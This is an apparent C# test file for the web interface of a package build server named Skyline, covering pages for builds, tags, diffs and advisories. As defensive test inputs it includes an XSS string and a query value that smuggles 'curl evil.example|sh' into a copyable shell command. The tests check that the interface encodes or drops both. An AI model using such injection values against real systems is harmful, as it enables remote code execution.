using System.Net;
using System.Text.RegularExpressions;
using Bunit;
using Skyline.Protocol;
using Skyline.Server.Builds;
using Skyline.Server.Finding;
using Skyline.Server.Shell;
using Skyline.Server.Tests.Tags;

namespace Skyline.Server.Tests.Shell;

public sealed class PageTests
{
    static CancellationToken Ct => Xunit.TestContext.Current.CancellationToken;

    [Fact]
    public async Task The_first_page_says_what_to_do_when_nothing_was_built()
    {
        await using var site = await Site.Open();

        var page = await site.Http().GetStringAsync("/", Ct);

        Assert.Contains("Nothing has been built yet", page);
        Assert.Contains("skyline build --wait", page);
    }

    [Fact]
    public async Task Pages_show_a_build_without_any_script_and_encode_what_is_hostile()
    {
        await using var site = await Site.Open();
        var srpm = Papers.Source("hello", "2.12", "1.pp1", exclusiveArch: "x86_64");
        var build = await site.Admin.Submit(srpm.Open(), srpm.FileName, "paper", scratch: false, Ct);
        var builder = new PaperBuilder(site.LocalBuilder);
        await builder.Report((await builder.Lease()).RunId, RunOutcome.Failed, "<script>alert(1)</script> in %build");

        var page = await site.Http().GetStringAsync($"/builds/{build.Id}", Ct);

        Assert.Contains("hello-2.12-1.pp1", page);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt; in %build", page);
        Assert.DoesNotContain("<script>alert", page);
        Assert.Contains($"/builds/{build.Id}", await site.Http().GetStringAsync("/", Ct));
        Assert.DoesNotContain("hello-2.12", await site.Http().GetStringAsync("/builds?state=Complete", Ct));
    }

    [Fact]
    public async Task A_tags_page_has_the_lines_to_copy()
    {
        await using var site = await Site.Open();

        var page = WebUtility.HtmlDecode(await site.Http().GetStringAsync("/tags/paper", Ct));

        Assert.Contains(site.Part<Skyline.Server.Signing.SigningKeys>().FingerprintOf("paper")!, page);
        Assert.Contains($"curl -o /etc/yum.repos.d/skyline-paper.repo {site.Address}repos/paper/paper.repo", page);
        Assert.Equal(HttpStatusCode.NotFound, (await site.Http().GetAsync("/tags/none", Ct)).StatusCode);
    }

    [Fact]
    public async Task A_tags_page_shows_what_it_inherits_and_how_it_came_to_be_as_it_is()
    {
        await using var site = await Site.Open();
        await site.MakeTags("base", "heir");
        await site.Inherit("heir", "base");
        await site.Admin.Block("heir", new(["evil"]), preview: false, Ct);
        await site.Import("hello", "1", "heir");
        var first = await site.UpToDate("heir");
        await site.Import("hello", "2", "base");
        await site.Import("world", "1", "base");
        var second = await site.UpToDate("heir");

        var page = WebUtility.HtmlDecode(await site.Http().GetStringAsync("/tags/heir", Ct));
        var diff = WebUtility.HtmlDecode(await site.Http().GetStringAsync($"/tags/heir/diff?from={first}&to={second}", Ct));
        var history = WebUtility.HtmlDecode(await site.Http().GetStringAsync("/tags/heir/history", Ct));
        var snapshots = WebUtility.HtmlDecode(await site.Http().GetStringAsync("/tags/heir/snapshots", Ct));

        Assert.Contains("<a href=\"/tags/base\">base</a>", page);
        Assert.Contains("tags that inherit from this one: evil", page);
        Assert.Contains($"/tags/heir/diff?to={second}&from={first}", snapshots);
        Assert.Contains("base: world-1-1 tagged", snapshots);
        Assert.Contains("world-1-1.x86_64", diff);
        Assert.DoesNotContain("hello-2-1", diff);
        Assert.Contains($"skyline tag rollback heir {first[..12]} --preview", diff);
        Assert.Contains("evil blocked", history);
        Assert.Contains("inherits from base", history);
        foreach (var missing in new[] { "none/diff", "none/history", "none/snapshots", "heir/diff?from=000000" })
            Assert.Equal(HttpStatusCode.NotFound, (await site.Http().GetAsync($"/tags/{missing}", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await site.Http().GetAsync("/tags/heir/diff?from=<script>", Ct)).StatusCode);
    }

    [Theory]
    [InlineData("/builds")]
    [InlineData("/advisories")]
    [InlineData("/tags/paper/history")]
    [InlineData("/tags/paper/snapshots")]
    public async Task A_page_that_begins_at_no_number_begins_at_the_beginning(string path)
    {
        await using var site = await Site.Open();

        foreach (var before in new[] { "abc", "", "99999999999999999999", "-1" })
            Assert.Equal(HttpStatusCode.OK, (await site.Http().GetAsync($"{path}?before={before}", Ct)).StatusCode);
    }

    [Theory]
    [InlineData("/externals/none")]
    [InlineData("/builds/999")]
    [InlineData("/advisories/none")]
    public async Task A_page_of_what_is_not_there_is_not_there(string path)
    {
        await using var site = await Site.Open();

        Assert.Equal(HttpStatusCode.NotFound, (await site.Http().GetAsync(path, Ct)).StatusCode);
    }

    [Fact]
    public async Task A_line_to_copy_into_a_shell_holds_nothing_that_stood_in_the_address()
    {
        await using var site = await Site.Open();

        var strange = string.Concat(Regex.Matches(await site.Http().GetStringAsync("/advisories?tag=x;curl+evil.example|sh;", Ct), "<pre.*?</pre>", RegexOptions.Singleline).Select(lines => lines.Value));
        var known = await site.Http().GetStringAsync("/advisories?tag=paper", Ct);

        Assert.DoesNotContain("evil.example", strange);
        Assert.Contains("skyline advisory create --tag TAG", strange);
        Assert.Contains("skyline advisory create --tag paper", known);
    }

    [Theory]
    [InlineData("/healthz")]
    [InlineData("/openapi/v1.json")]
    [InlineData("/skyline.css")]
    [InlineData("/skyline.js")]
    [InlineData("/builders")]
    public async Task What_the_appliance_promises_is_there(string path)
    {
        await using var site = await Site.Open();

        Assert.Equal(HttpStatusCode.OK, (await site.Http().GetAsync(path, Ct)).StatusCode);
    }

    [Fact]
    public async Task A_live_page_follows_its_bell_and_stops_with_the_page()
    {
        await using var site = await Site.Open();
        using var context = new PageContext(site);
        var page = context.Render<BuildsPage>();
        Assert.Contains("Nothing has been built yet", page.Markup);
        var srpm = Papers.Source("hello", "2.12", "1.pp1");

        await site.Admin.Submit(srpm.Open(), srpm.FileName, "paper", scratch: false, Ct);

        page.WaitForAssertion(() => Assert.Contains("hello-2.12-1.pp1", page.Markup), TimeSpan.FromSeconds(10));
        await page.Instance.DisposeAsync();
    }
}
